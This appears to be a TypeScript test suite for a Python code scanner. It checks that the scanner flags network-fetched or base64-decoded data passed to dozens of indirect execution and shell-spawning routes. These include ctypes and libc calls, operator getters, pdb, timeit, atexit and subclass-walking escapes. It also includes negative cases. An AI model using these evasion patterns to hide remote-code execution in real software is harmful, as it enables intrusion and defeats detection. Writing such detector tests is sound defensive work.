import { pythonReady } from './grammar';
import { readPython } from './read-python';

/** Every way is given the same: what comes over the network, and what is decoded and nobody knows. */
const FETCHED = 'import urllib.request\nH = urllib.request.urlopen("https://x.invalid/a").read()\n';
const DECODED = 'import base64, other\nH = base64.b64decode(other.text())\n';

const signalsOf = (code: string) => readPython('x.py', code).observations.map(({ signal }) => signal);

const EVALUATING: readonly [title: string, code: string][] = [
  ['a console that is pushed', 'import code\ncode.InteractiveConsole().push(H)'],
  ['a console of its own kind', 'import code\nclass C(code.InteractiveConsole): pass\nc = C()\nc.push(H)'],
  ['an interpreter', 'import code\ncode.InteractiveInterpreter().runcode(compile(H, "x", "exec"))'],
  ['a profile', 'import cProfile\ncProfile.run(H)'],
  ['a profile as an object', 'import cProfile\ncProfile.Profile().run(H)'],
  ['a profile with names', 'import profile\np = profile.Profile()\np.runctx(H, {}, {})'],
  ['a trace', 'import trace\ntrace.Trace(count=0).run(H)'],
  ['a debugger', 'import pdb\npdb.Pdb().run(H)'],
  ['what debuggers are made of', 'import bdb\nbdb.Bdb().run(H)'],
  ['a stopwatch', 'import timeit\ntimeit.timeit(stmt=H, number=1)'],
  ['what a stopwatch does first', 'import timeit\ntimeit.timeit("0", setup=H)'],
  ['the inner function of a runner', 'import runpy\nrunpy._run_code(compile(H, "x", "exec"), {})'],
  ["the interpreter's own function", 'import ctypes\nctypes.pythonapi.PyRun_SimpleString(H)'],
  ['a type of a hint', 'import typing\ntyping.ForwardRef(H)._evaluate({}, {}, frozenset())'],
  ['an example', 'import doctest\ndoctest.run_docstring_examples(H, {})'],
  ['another language', 'import tkinter\ntkinter.Tcl().eval(H)'],
  ['a function by the type of another', 'def f(): pass\ntype(f)(compile(H, "x", "exec"), {})()'],
  ['a function by the class of another', 'def f(): pass\nf.__class__(compile(H, "x", "exec"), {})()'],
  ['a function by the class of a lambda', '(lambda: 0).__class__(compile(H, "x", "exec"), {})()'],
  ['a getter', 'import operator, builtins\noperator.attrgetter("ex" + "ec")(builtins)(H)'],
  ['a getter with a name', 'import operator as o, builtins\ng = o.attrgetter("exec")\ng(builtins)(H)'],
  ['a getter of items', 'import operator, builtins\noperator.itemgetter("exec")(vars(builtins))(H)'],
  ['a caller by name', 'import operator, builtins\noperator.methodcaller("exec", H)(builtins)'],
  ['a caller', 'import operator\noperator.call(exec, H)'],
  ['a function with its argument', 'import functools\nfunctools.partial(exec, H)()'],
  ['a function made ready', 'import functools\nr = functools.partial(exec)\nr(H)'],
  ['a fold', 'import functools\nfunctools.reduce(exec, [H, {}])'],
  ['an order', 'max([H], key=eval)'],
  ['rows', 'import itertools\nlist(itertools.starmap(exec, [(H,)]))'],
  ['an end', 'import atexit\natexit.register(exec, H)'],
  ['a timer', 'import threading\nthreading.Timer(0, exec, [H]).start()'],
  ['a process', 'import multiprocessing\nmultiprocessing.Process(target=exec, args=(H,)).start()'],
  [
    'the beginning of a pool',
    'import multiprocessing\nmultiprocessing.Pool(1, initializer=exec, initargs=(H,))',
  ],
  ['an executor', 'from concurrent.futures import ThreadPoolExecutor as T\nT().submit(exec, H)'],
  ['a loop', 'import asyncio\nasyncio.new_event_loop().call_soon(exec, H)'],
  ['the end of an object', 'import weakref\nweakref.finalize(X, exec, H)'],
  ['a debugger, by a line', 'import pdb\npdb.Pdb().onecmd(H)'],
  [
    'an example that is taken out',
    'import doctest\ndoctest.DocTestParser().get_doctest(H, {}, "a", None, 0)',
  ],
  ['a template that holds code', 'from mako.template import Template\nTemplate(H).render()'],
  ['the inner function of loading', 'import importlib._bootstrap_external as b\nb._compile_bytecode(H)'],
  ["the interpreter's own library", 'import ctypes\nctypes.PyDLL(None).PyRun_SimpleString(H)'],
  ['a function by its other type', 'import types\ntypes.LambdaType(compile(H, "x", "exec"), {})()'],
  ['a name that is looked up', 'import pkgutil\npkgutil.resolve_name("builtins:exec")(H)'],
  ['a name that the help looks up', 'import pydoc\npydoc.locate("builtins.exec")(H)'],
  ['the names of a frame', 'import sys\nsys._getframe().f_builtins["exec"](H)'],
  ['those of the module of a frame', 'import sys\nsys._getframe().f_globals["__builtins__"]["exec"](H)'],
  ['a fold over the evaluator', 'import functools, operator\nfunctools.reduce(operator.call, [exec, H])'],
  ['text that evaluates a name', 'exec("exec(x)", {"x": H})'],
  ['hints', 'import typing\nclass A: pass\nA.__annotations__ = {"a": H}\ntyping.get_type_hints(A)'],
  ['what is typed', 'import code, io, sys\nsys.stdin = io.StringIO(H)\ncode.interact()'],
  ['the names of a function', '(lambda: 0).__globals__["__builtins__"]["exec"](H)'],
  ['the names of another', 'def f(): pass\nf.__globals__["__builtins__"].exec(H)'],
];

const STARTING: readonly [title: string, code: string][] = [
  ['the C library', 'import ctypes\nctypes.CDLL(None).system(H)'],
  ['the C library by a name', 'import ctypes\nanything = ctypes.CDLL("libc.so.6")\nanything.system(H)'],
  ['a function of it as an item', 'import ctypes\nctypes.CDLL(None)["system"](H)'],
  [
    'a function of it by its name',
    'import ctypes\ngetattr(ctypes.cdll.LoadLibrary("libc.so.6"), "system")(H)',
  ],
  ['words of a program', 'import os\nos.posix_spawn("/bin/sh", ["sh", "-c", H], os.environ)'],
  ['words that take its place', 'import os\nos.execv("/bin/sh", ["sh", "-c", H])'],
  [
    'the inner function of starting',
    'import _posixsubprocess as p\np.fork_exec([b"sh", b"-c", H], [b"/bin/sh"])',
  ],
  [
    'a loop that starts programs',
    'import asyncio\nloop = asyncio.new_event_loop()\nloop.subprocess_shell(asyncio.SubprocessProtocol, H)',
  ],
  ['an end', 'import atexit, os\natexit.register(os.system, H)'],
  ['the C library, by cffi', 'import cffi\nf = cffi.FFI()\nf.dlopen(None).system(H)'],
  ['the module below os', 'import posix\nposix.execv("/bin/sh", ["sh", "-c", H])'],
  ['a module by way of another', 'import platform\nplatform.os.system(H)'],
  ['a module by way of one that hides it', 'import random\nrandom._os.system(H)'],
  ['subprocess by way of another', 'import platform\nplatform.subprocess.run(H, shell=True)'],
  ['the loop of a module', 'import asyncio.subprocess as a\na.create_subprocess_shell(H)'],
  ['what builds packages', 'from distutils.spawn import spawn\nspawn(H)'],
  ['old modules', 'import commands\ncommands.getstatusoutput(H)'],
  ['older ones', 'import popen2\npopen2.popen3(H)'],
  ['a terminal', 'import pexpect\npexpect.run(H)'],
  ['a name that is looked up', 'import pkgutil\npkgutil.resolve_name("os:system")(H)'],
  ['a name that settings look up', 'import logging.config\nlogging.config._resolve("os.system")(H)'],
  [
    'a name that a server looks up',
    'from werkzeug.utils import import_string\nimport_string("os.system")(H)',
  ],
  ['text that starts a name', 'eval("__import__(\'os\').system(x)", {"x": H})'],
  [
    'the input of a shell',
    'import subprocess\np = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\np.stdin.write(H)',
  ],
  ['a process', 'import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=(H,)).start()'],
  [
    'words by a name',
    'import multiprocessing as m, os\nm.Process(target=os.system, kwargs={"command": H}).start()',
  ],
  [
    'an executor',
    'import os\nfrom concurrent.futures import ThreadPoolExecutor as T\nT().submit(os.system, H)',
  ],
  ['a getter', 'import operator, os\noperator.attrgetter("system")(os)(H)'],
  ['a caller by name', 'import operator, os\noperator.methodcaller("system", H)(os)'],
  [
    'the names of a class that is there',
    'k = [c for c in ().__class__.__base__.__subclasses__()][99]\nk.__init__.__globals__["system"](H)',
  ],
];

describe('ast/python/acts', () => {
  beforeAll(pythonReady);

  it.each(EVALUATING)('what comes over the network is evaluated through %s', (_title, code) => {
    expect(signalsOf(`${FETCHED}${code}\n`)).toContain('remote-code');
  });

  it.each(EVALUATING)('what is decoded is evaluated through %s', (_title, code) => {
    expect(signalsOf(`${DECODED}${code}\n`)).toContain('decoded-code');
  });

  it.each(STARTING)('what comes over the network is started through %s', (_title, code) => {
    expect(signalsOf(`${FETCHED}${code}\n`)).toContain('remote-code');
  });

  it.each<[title: string, code: string]>([
    ['a process that is asked what it is', 'import subprocess\nisinstance(H, subprocess.Popen)'],
    ['another function of the C library', 'import ctypes\nc = ctypes.CDLL(None)\nc.getpid()\nc.puts(H)'],
    ['a library with a name like it', 'import ctypes\nctypes.CDLL("libx.so").subsystem(H)'],
    ['what is put on a list', 'stack = []\nstack.push(H)'],
    ['a stack of its own', 'class Stack: pass\ns = Stack()\ns.push(H)\ns.run(H)'],
    ['a member that is taken', 'import operator\noperator.attrgetter("name")(H)'],
    [
      'another function made ready',
      'import functools\nread = functools.partial(str, encoding="utf8")\nread(H)',
    ],
    [
      'a program with more of its own',
      'import functools, subprocess\nr = functools.partial(subprocess.run, ["git"])\nr(H)',
    ],
    ['a profile of what its user names', 'import cProfile, sys\nprint(H)\ncProfile.run(sys.argv[1])'],
    ['a stopwatch on a function', 'import timeit\ntimeit.timeit(lambda: len(H))'],
    [
      'a process of its own function',
      'import multiprocessing\ndef f(x): print(x)\nmultiprocessing.Process(target=f, args=(H,))',
    ],
    [
      'a debugger that somebody calls from elsewhere (celery)',
      'import pdb, socket, sys\nclass Rdb(pdb.Pdb):\n    def __init__(self):\n        self.link, _ = socket.socket().accept()\n        sys.stdin = sys.stdout = self.link.makefile("rw")\n        super().__init__(stdin=sys.stdin)',
    ],
    ['names that code is given', 'exec("y = len(x)", {"x": H})'],
    ['a name of its own that is looked up', 'import pkgutil\npkgutil.resolve_name("sample.views:show")(H)'],
    ['the names of a caller', 'import sys\nsys._getframe(1).f_globals["__name__"].join(H)'],
    [
      'the input of its own program',
      'import subprocess\np = subprocess.Popen(["tee"], stdin=subprocess.PIPE)\np.stdin.write(H)',
    ],
    ['a tester', 'import doctest\nprint(H)\ndoctest.testmod()'],
    ['a table of functions', 'import os\nother.table([os.path.exists, len], H)'],
    ['the C library, asked who runs', 'import ctypes\nctypes.CDLL(None).getpid()\nprint(H)'],
    ['names of its own', 'def f(): pass\nf.__globals__["x"](H)'],
    ['hints', 'import typing\ntyping.get_type_hints(len)\nprint(H)'],
  ])('is silent about %s', (_title, code) => {
    expect(signalsOf(`${FETCHED}${code}\n`)).not.toContain('remote-code');
  });
});
